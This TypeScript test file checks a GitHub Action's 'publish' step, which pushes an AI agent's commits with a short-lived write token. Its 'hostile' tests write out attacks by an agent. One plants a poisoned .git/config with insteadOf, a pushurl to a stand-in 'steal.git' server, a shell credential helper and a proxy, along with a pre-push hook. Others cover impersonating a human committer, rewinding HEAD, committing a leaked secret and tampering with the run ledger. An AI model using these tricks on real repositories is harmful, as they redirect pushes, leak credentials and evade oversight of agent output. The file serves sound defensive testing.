/**
 * Whole-program runs of dist/publish/main.js after start, github-token (the agent's
 * read-only token) and run (user: runner), pushing to a loopback git server that wraps real
 * `git http-backend` and accepts only a token the GitHub stand-in issued with contents: write.
 */
import { beforeAll, describe, expect, test } from '@jest/globals';
import { execFile, execFileSync } from 'node:child_process';
import { promisify } from 'node:util';
import { chmodSync, existsSync, mkdirSync, readdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { Job, type StepResult } from '../../src/devkit/run-action.js';
import { makeAppKey, type GithubApiServer } from '../../src/devkit/github-api.js';
import { closeAfterEach, startAppApi } from '../harness/github-app.js';
import { startGitHttp, type GitHttpServer } from '../harness/git-http.js';

const APP_ID = 31338;
const BOT_ID = 9200003;
const SLUG = 'agent-app';
const BOT = `${SLUG}[bot]`;
const BOT_EMAIL = `${BOT_ID}+${SLUG}[bot]@users.noreply.github.com`;
const BRANCH = 'agent/issue-42';
let key: ReturnType<typeof makeAppKey>;
const cleanup = closeAfterEach();

beforeAll(() => {
  key = makeAppKey();
});

function git(cwd: string, args: string[], env: Record<string, string> = {}): string {
  return execFileSync('git', args, {
    cwd,
    env: {
      PATH: process.env.PATH ?? '/usr/bin:/bin',
      GIT_CONFIG_NOSYSTEM: '1',
      GIT_CONFIG_GLOBAL: '/dev/null',
      HOME: '/nonexistent',
      ...env,
    },
    encoding: 'utf8',
  }).trim();
}

function api(): Promise<GithubApiServer> {
  return startAppApi(
    { appId: APP_ID, slug: SLUG, botId: BOT_ID, publicKey: key.publicKey, installationId: 56 },
    cleanup,
  );
}

interface World {
  j: Job;
  s: GithubApiServer;
  remote: GitHttpServer;
  /** The bare repository the remote serves. */
  bare: string;
  start: StepResult;
}

/**
 * A job whose workspace is a clone-like repository with one human commit (GITHUB_SHA), the
 * same commit on `main` of the remote, start's record, and the agent's read-only token.
 */
async function world(before?: (j: Job) => void): Promise<World> {
  const s = await api();
  const j = new Job();
  cleanup.push(() => rmSync(j.root, { recursive: true, force: true }));
  j.env.GIT_CONFIG_GLOBAL = join(j.home, '.gitconfig');
  j.env.GIT_CONFIG_NOSYSTEM = '1';
  const root = join(j.root, 'git-root');
  const bare = join(root, 'octo-org', 'octo-repo.git');
  mkdirSync(bare, { recursive: true });
  git(bare, ['init', '-q', '--bare', '-b', 'main']);
  git(bare, ['config', 'http.receivepack', 'true']);
  git(j.workspace, ['init', '-q', '-b', 'main']);
  writeFileSync(join(j.workspace, 'README'), 'base\n');
  git(j.workspace, ['add', '-A']);
  git(j.workspace, [
    '-c',
    'user.name=Mona Lisa',
    '-c',
    'user.email=mona@example.com',
    'commit',
    '-q',
    '-m',
    'base',
  ]);
  j.env.GITHUB_SHA = git(j.workspace, ['rev-parse', 'HEAD']);
  git(j.workspace, ['push', '-q', bare, 'main']);
  before?.(j);
  const remote = await startGitHttp({ projectRoot: root, tokens: s.tokens, repo: 'octo-repo' });
  cleanup.push(() => remote.close());
  j.env.GITHUB_SERVER_URL = remote.url;
  j.env.GITHUB_API_URL = s.url;
  const start = await j.run('start', 'main');
  expect(start.code).toBe(0);
  const token = await j.run('github-token', 'main', {
    inputs: {
      'app-id': String(APP_ID),
      'private-key': key.pkcs1,
      'github-api-url': s.url,
      'permission-contents': 'read',
    },
  });
  expect(errorOf(token)).toBe('');
  return { j, s, remote, bare, start };
}

/** The agent's command, as run (user: runner) runs it. */
async function agent(w: World, script: string): Promise<StepResult> {
  const r = await w.j.run('run', 'main', { inputs: { run: script, user: 'runner' } });
  return r;
}

const asBot = `git -c user.name="${BOT}" -c user.email="${BOT_EMAIL}" commit -q --no-gpg-sign`;

function publish(w: World, extra: Record<string, string> = {}): Promise<StepResult> {
  return w.j.run('publish', 'main', {
    inputs: {
      'app-id': String(APP_ID),
      'private-key': key.pkcs1,
      'github-api-url': w.s.url,
      branch: BRANCH,
      'seal-key': w.start.outputs['seal-key'],
      ...extra,
    },
  });
}

function errorOf(r: StepResult): string {
  return r.commands
    .filter((c) => c.command === 'error')
    .map((c) => c.message)
    .join('\n');
}

function ledger(j: Job): { type: string; data: Record<string, unknown> }[] {
  return readFileSync(join(j.runnerTemp, 'cordon', 'ledger.jsonl'), 'utf8')
    .split('\n')
    .filter(Boolean)
    .map((l) => JSON.parse(l) as { type: string; data: Record<string, unknown> });
}

/** Every ref of the remote's bare repository. */
function remoteRefs(w: World): string {
  return git(w.bare, ['for-each-ref', '--format=%(refname) %(objectname)']);
}

/** publish's own tokens: contents: write (the agent's is read). */
function writeTokens(s: GithubApiServer): GithubApiServer['tokens'] {
  return s.tokens.filter((t) => t.permissions.contents === 'write');
}

/** Commits all in `cwd` in the bot's name, outside any run (as another step of the job could). */
function commitAsBot(cwd: string, subject: string): void {
  git(cwd, ['add', '-A']);
  git(cwd, ['-c', `user.name=${BOT}`, '-c', `user.email=${BOT_EMAIL}`, 'commit', '-q', '-m', subject]);
}

/** Every byte a step printed or left, but the add-mask lines. */
function everything(j: Job, results: StepResult[]): string {
  return [
    ...results.flatMap((r) => [
      r.stdout
        .split('\n')
        .filter((l) => !l.startsWith('::add-mask::'))
        .join('\n'),
      r.stderr,
      JSON.stringify(r.env),
      JSON.stringify(r.outputs),
      JSON.stringify(r.state),
      r.summary,
    ]),
    readFileSync(join(j.runnerTemp, 'cordon', 'ledger.jsonl'), 'utf8'),
  ].join('\n');
}

describe('publish', () => {
  test("an honest run's commit is pushed to the branch with publish's own token, revoked after; publish.pushed recorded; the default branch refused first", async () => {
    const w = await world();
    const run = await agent(w, `set -e\necho fix > fix.txt && git add fix.txt\n${asBot} -m "agent: fix"`);
    expect(errorOf(run)).toBe('');
    const head = git(w.j.workspace, ['rev-parse', 'HEAD']);
    const before = remoteRefs(w);

    // The default branch (the stand-in says main) is refused, after the token was minted: revoked.
    const onMain = await publish(w, { branch: 'main' });
    expect(onMain.code).toBe(1);
    expect(errorOf(onMain)).toMatch(
      /publish: nothing pushed to main: main is the repository's default branch.*Fix: .*allow-default-branch: true/,
    );
    expect(remoteRefs(w)).toBe(before);
    expect(writeTokens(w.s)).toHaveLength(1);
    expect(writeTokens(w.s)[0].revoked).toBe(true);

    const r = await publish(w);
    expect(errorOf(r)).toBe('');
    expect(r.code).toBe(0);
    expect(git(w.bare, ['rev-parse', `refs/heads/${BRANCH}`])).toBe(head);
    expect(r.outputs.commit).toBe(head);
    const mine = writeTokens(w.s);
    expect(mine).toHaveLength(2);
    expect(mine[1]).toMatchObject({ repositories: ['octo-repo'], revoked: true });
    expect(mine[1].permissions).toEqual({ contents: 'write', metadata: 'read' });
    // The push was made with it: every request to the remote authorized, none refused.
    expect(w.remote.requests.length).toBeGreaterThan(0);
    expect(w.remote.requests.every((q) => q.authorized)).toBe(true);
    const pushed = ledger(w.j).filter((l) => l.type === 'publish.pushed');
    expect(pushed).toHaveLength(1);
    expect(pushed[0].data).toEqual({
      branch: BRANCH,
      commit: head,
      commits: 1,
      remote: `${w.remote.url}/octo-org/octo-repo.git`,
      token: 'revoked',
    });
    expect(r.summary).toMatch(
      new RegExp(`Pushed\\*\\* \`${head.slice(0, 12)}\` to branch agent/issue-42 \\(1 commit`),
    );
    // The temporary repository is gone.
    expect(readdirSync(w.j.runnerTemp).filter((f) => f.startsWith('cordon-publish-'))).toEqual([]);
  }, 120000);

  test("the token's value is in no log, ledger line, summary, output, state or error, and in no process's command line while the server holds the push", async () => {
    const w = await world();
    await agent(w, `set -e\necho a > a.txt && git add a.txt\n${asBot} -m "agent: a"`);
    const r = await publish(w);
    expect(r.code).toBe(0);
    const [t] = writeTokens(w.s);
    const basic = Buffer.from(`x-access-token:${t.token}`).toString('base64');
    // It was masked (and its basic-auth form) before the push.
    expect(r.masks).toContain(t.token);
    expect(r.masks).toContain(basic);
    const all = everything(w.j, [r]);
    expect(all).not.toContain(t.token);
    expect(all).not.toContain(basic);
    expect(w.remote.samples).toBeGreaterThan(0);
    expect(w.remote.cmdlinesWithSecret).toEqual([]);
    // The control: a git given the header on its command line is seen by the same sampling.
    await expect(
      promisify(execFile)(
        'git',
        [
          '-c',
          `http.extraHeader=AUTHORIZATION: basic ${basic}`,
          'ls-remote',
          `${w.remote.url}/octo-org/octo-repo.git`,
        ],
        {
          env: { PATH: process.env.PATH ?? '/usr/bin:/bin', GIT_TERMINAL_PROMPT: '0', HOME: '/nonexistent' },
          timeout: 30000,
        },
      ),
    ).rejects.toThrow();
    expect(w.remote.cmdlinesWithSecret.some((l) => l.includes(basic))).toBe(true);
    w.remote.cmdlinesWithSecret.length = 0;
    // A push git refuses (the branch moved elsewhere: not a fast-forward, never forced) names
    // no token either, and leaves the branch where it was.
    const other = git(
      w.bare,
      ['commit-tree', `${w.j.env.GITHUB_SHA}^{tree}`, '-p', w.j.env.GITHUB_SHA, '-m', 'elsewhere'],
      {
        GIT_AUTHOR_NAME: 'Mona Lisa',
        GIT_AUTHOR_EMAIL: 'mona@example.com',
        GIT_COMMITTER_NAME: 'Mona Lisa',
        GIT_COMMITTER_EMAIL: 'mona@example.com',
      },
    );
    git(w.bare, ['update-ref', `refs/heads/${BRANCH}`, other]);
    const again = await publish(w);
    expect(again.code).toBe(1);
    expect(errorOf(again)).toMatch(/git refused or failed the push.*(rejected|fetch first|non-fast-forward)/);
    expect(git(w.bare, ['rev-parse', `refs/heads/${BRANCH}`])).toBe(other);
    const t2 = writeTokens(w.s)[1];
    expect(t2.revoked).toBe(true);
    const all2 = everything(w.j, [r, again]);
    for (const v of [t.token, basic, t2.token, Buffer.from(`x-access-token:${t2.token}`).toString('base64')])
      expect(all2).not.toContain(v);
    expect(w.remote.cmdlinesWithSecret).toEqual([]);
  }, 120000);

  test("hostile: the workspace's .git/config sends insteadOf, pushurl, a credential helper and http.proxy to the agent's server, and a pre-push hook writes a marker: the push goes to the real remote, the agent's server gets nothing, no marker", async () => {
    const w = await world();
    const evil = await startGitHttp({});
    cleanup.push(() => evil.close());
    const marker = join(w.j.root, 'marker');
    await agent(w, `set -e\necho b > b.txt && git add b.txt\n${asBot} -m "agent: b"`);
    const head = git(w.j.workspace, ['rev-parse', 'HEAD']);
    // Written after run (run's gitguard puts back what its command changes in .git): a later
    // step, or what a guard missed. publish must not read it at all.
    const cfg = join(w.j.workspace, '.git', 'config');
    writeFileSync(
      cfg,
      readFileSync(cfg, 'utf8') +
        [
          `[url "${evil.url}/"]`,
          `\tinsteadOf = ${w.remote.url}/`,
          `\tpushInsteadOf = ${w.remote.url}/`,
          '[remote "origin"]',
          `\turl = ${w.remote.url}/octo-org/octo-repo.git`,
          `\tpushurl = ${evil.url}/steal.git`,
          '[credential]',
          `\thelper = "!f() { touch ${marker}; }; f"`,
          '[http]',
          `\tproxy = ${evil.url}`,
          `[core]`,
          `\thooksPath = ${join(w.j.workspace, '.git', 'hooks')}`,
          '',
        ].join('\n'),
    );
    const hook = join(w.j.workspace, '.git', 'hooks', 'pre-push');
    mkdirSync(join(w.j.workspace, '.git', 'hooks'), { recursive: true });
    writeFileSync(hook, `#!/bin/sh\ntouch ${marker}\n`);
    chmodSync(hook, 0o755);
    // The config does what it says to a git that reads it (the attack works on a plain push;
    // run asynchronously: the agent's server answers from this process).
    await expect(
      promisify(execFile)('git', ['push', '-q', 'origin', 'HEAD:refs/heads/probe'], {
        cwd: w.j.workspace,
        env: { PATH: process.env.PATH ?? '/usr/bin:/bin', GIT_TERMINAL_PROMPT: '0', HOME: '/nonexistent' },
        timeout: 30000,
      }),
    ).rejects.toThrow();
    expect(existsSync(marker)).toBe(true);
    expect(evil.requests.length).toBeGreaterThan(0);
    rmSync(marker);
    evil.requests.length = 0;

    const r = await publish(w);
    expect(errorOf(r)).toBe('');
    expect(r.code).toBe(0);
    expect(git(w.bare, ['rev-parse', `refs/heads/${BRANCH}`])).toBe(head);
    expect(w.remote.requests.length).toBeGreaterThan(0);
    expect(w.remote.requests.every((q) => q.authorized)).toBe(true);
    expect(evil.requests).toEqual([]);
    expect(existsSync(marker)).toBe(false);
  }, 120000);

  test('hostile: a commit authored as a human in the run: refused, nothing pushed, the commit named', async () => {
    const w = await world();
    await agent(
      w,
      `set -e\necho c > c.txt && git add c.txt\ngit -c user.name="Mona Lisa" -c user.email=mona@example.com commit -q --no-gpg-sign -m "as Mona"\necho d > d.txt && git add d.txt\n${asBot} -m "agent: d"`,
    );
    const human = git(w.j.workspace, ['rev-parse', 'HEAD~1']);
    const before = remoteRefs(w);
    const r = await publish(w);
    expect(r.code).toBe(1);
    expect(errorOf(r)).toMatch(
      new RegExp(
        `publish: nothing pushed to agent/issue-42: 1 commit\\(s\\) of this run are not the agent's: ${human.slice(0, 12)} \\(impersonation\\) by Mona Lisa.*Fix: `,
      ),
    );
    expect(remoteRefs(w)).toBe(before);
    expect(writeTokens(w.s)).toEqual([]);
    expect(w.remote.requests).toEqual([]);
    const refused = ledger(w.j).filter((l) => l.type === 'publish.refused');
    expect(refused).toHaveLength(1);
    expect(String(refused[0].data.reason)).toMatch(/not the agent's/);
    expect(r.summary).toMatch(/Refused: nothing was pushed/);
  }, 120000);

  test("hostile: HEAD set to the bot's commit from before the run: refused as not made in the run, nothing pushed", async () => {
    let old = '';
    const w = await world((j) => {
      // A commit in the bot's name on a branch that existed before start (an earlier run's).
      git(j.workspace, ['checkout', '-q', '-b', 'old']);
      writeFileSync(join(j.workspace, 'old.txt'), 'old\n');
      commitAsBot(j.workspace, 'earlier');
      old = git(j.workspace, ['rev-parse', 'HEAD']);
      git(j.workspace, ['checkout', '-q', 'main']);
    });
    await agent(w, 'git checkout -q old');
    expect(git(w.j.workspace, ['rev-parse', 'HEAD'])).toBe(old);
    const before = remoteRefs(w);
    const r = await publish(w);
    expect(r.code).toBe(1);
    // Listed among the run's commits as the bot's (its branch's reflog), but no run made it.
    expect(errorOf(r)).toContain(`${old.slice(0, 12)} (the bot's, not made in a run)`);
    expect(remoteRefs(w)).toBe(before);
    expect(writeTokens(w.s)).toEqual([]);
  }, 120000);

  test('hostile: HEAD reset to an ancestor of the commit the run started from (nothing between them): refused as not made in the run, nothing pushed', async () => {
    let first = '';
    const w = await world((j) => {
      // The checkout's history has two commits; the run starts from the second.
      first = git(j.workspace, ['rev-parse', 'HEAD']);
      writeFileSync(join(j.workspace, 'second.txt'), 'second\n');
      commitAsBot(j.workspace, 'second');
      j.env.GITHUB_SHA = git(j.workspace, ['rev-parse', 'HEAD']);
    });
    await agent(w, 'git reset -q --hard HEAD~1');
    expect(git(w.j.workspace, ['rev-parse', 'HEAD'])).toBe(first);
    const before = remoteRefs(w);
    const r = await publish(w);
    expect(r.code).toBe(1);
    expect(errorOf(r)).toContain(`HEAD (${first.slice(0, 12)}) is not a commit run saw made`);
    expect(remoteRefs(w)).toBe(before);
    expect(writeTokens(w.s)).toEqual([]);
  }, 120000);

  test("hostile: the agent's commit on top of a commit in the bot's name made after start but outside run: refused, the earlier commit named, nothing pushed", async () => {
    const w = await world();
    // A step between start and run commits in the bot's name: listed among the run's
    // commits as the bot's, but no run saw it made and no leak scan read it.
    writeFileSync(join(w.j.workspace, 'between.txt'), 'between\n');
    commitAsBot(w.j.workspace, 'between');
    const between = git(w.j.workspace, ['rev-parse', 'HEAD']);
    const run = await agent(w, `set -e\necho work > work.txt && git add work.txt\n${asBot} -m "agent: work"`);
    expect(run.code).toBe(0);
    const head = git(w.j.workspace, ['rev-parse', 'HEAD']);
    expect(git(w.j.workspace, ['rev-parse', 'HEAD~1'])).toBe(between);
    const before = remoteRefs(w);
    const r = await publish(w);
    expect(r.code).toBe(1);
    expect(errorOf(r)).toContain(`${between.slice(0, 12)} (the bot's, not made in a run)`);
    expect(errorOf(r)).not.toContain(head.slice(0, 12));
    expect(remoteRefs(w)).toBe(before);
    expect(writeTokens(w.s)).toEqual([]);
  }, 120000);

  test('hostile: the agent commits a secret run handed it (leak-scan: warn, so run passes): refused, nothing pushed, the secret named, not its value', async () => {
    const w = await world();
    const value = 'publish-leak-value-5c2e9d71aa';
    const run = await w.j.run('run', 'main', {
      inputs: {
        run: `set -e\nprintf '%s\\n' "$TOKEN" > config.txt && git add config.txt\n${asBot} -m "agent: config"`,
        user: 'runner',
        secrets: 'TOKEN=env:SOURCE_VALUE',
        'leak-scan': 'warn',
      },
      env: { SOURCE_VALUE: value },
    });
    expect(run.code).toBe(0);
    expect(git(w.j.workspace, ['show', 'HEAD:config.txt'])).toBe(value);
    const before = remoteRefs(w);
    const r = await publish(w);
    expect(r.code).toBe(1);
    expect(errorOf(r)).toMatch(
      /publish: nothing pushed to agent\/issue-42: run's leak scan found TOKEN in \d+ place/,
    );
    expect(everything(w.j, [r])).not.toContain(value);
    expect(remoteRefs(w)).toBe(before);
    expect(writeTokens(w.s)).toEqual([]);
  }, 120000);

  test('a key of another App: no token, nothing pushed, the refusal recorded and the input named', async () => {
    const w = await world();
    await agent(w, `set -e\necho k > k.txt && git add k.txt\n${asBot} -m "agent: k"`);
    const r = await publish(w, { 'private-key': makeAppKey().pkcs1 });
    expect(r.code).toBe(1);
    expect(errorOf(r)).toMatch(
      /publish: nothing pushed to agent\/issue-42: GitHub does not accept the app JWT.*private-key is not a key of the app/,
    );
    expect(w.remote.requests).toEqual([]);
    expect(writeTokens(w.s)).toEqual([]);
    expect(ledger(w.j).filter((l) => l.type === 'publish.refused')).toHaveLength(1);
  }, 120000);

  test('hostile: a tampered ledger (a line before the run rewritten): refused, nothing pushed, the record named', async () => {
    const w = await world();
    await agent(w, `set -e\necho e > e.txt && git add e.txt\n${asBot} -m "agent: e"`);
    const file = join(w.j.runnerTemp, 'cordon', 'ledger.jsonl');
    const lines = readFileSync(file, 'utf8').split('\n');
    lines[0] = lines[0].replace('"workflow_dispatch"', '"push"');
    writeFileSync(file, lines.join('\n'));
    const before = remoteRefs(w);
    const r = await publish(w);
    expect(r.code).toBe(1);
    expect(errorOf(r)).toMatch(/publish: nothing pushed to agent\/issue-42: the run ledger is altered/);
    expect(remoteRefs(w)).toBe(before);
    expect(writeTokens(w.s)).toEqual([]);
  }, 120000);

  describe('bad input names the input and the fix', () => {
    const base = {
      'app-id': String(APP_ID),
      'private-key': '-----BEGIN RSA PRIVATE KEY-----\nx\n-----END RSA PRIVATE KEY-----',
    };
    test.each([
      ['missing branch', { ...base }, /publish: input branch is required.*Fix: add `branch: /],
      [
        'an invalid branch name',
        { ...base, branch: 'agent/../x' },
        /publish: input branch "agent\/..\/x" is not valid — not a branch name git and GitHub take: it holds "\.\."/,
      ],
      [
        'a full ref',
        { ...base, branch: 'refs/heads/x' },
        /input branch "refs\/heads\/x" is not valid.*Fix: write the name alone: `branch: x`/,
      ],
      [
        'a branch starting with -',
        { ...base, branch: '-f' },
        /input branch "-f" is not valid.*starts with "-"/,
      ],
      [
        'both app-id and client-id',
        { ...base, 'client-id': 'Iv23abc', branch: BRANCH },
        /publish: both app-id and client-id are set.*Fix: keep one/,
      ],
      [
        'neither app-id nor client-id',
        { 'private-key': base['private-key'], branch: BRANCH },
        /publish: input app-id \(or client-id\) is required.*Fix: add `app-id:/,
      ],
    ])(
      '%s',
      async (_name, inputs, expected) => {
        const j = new Job();
        cleanup.push(() => rmSync(j.root, { recursive: true, force: true }));
        const r = await j.run('publish', 'main', { inputs: inputs as Record<string, string> });
        expect(r.code).toBe(1);
        expect(errorOf(r)).toMatch(expected);
      },
      60000,
    );
  });
});
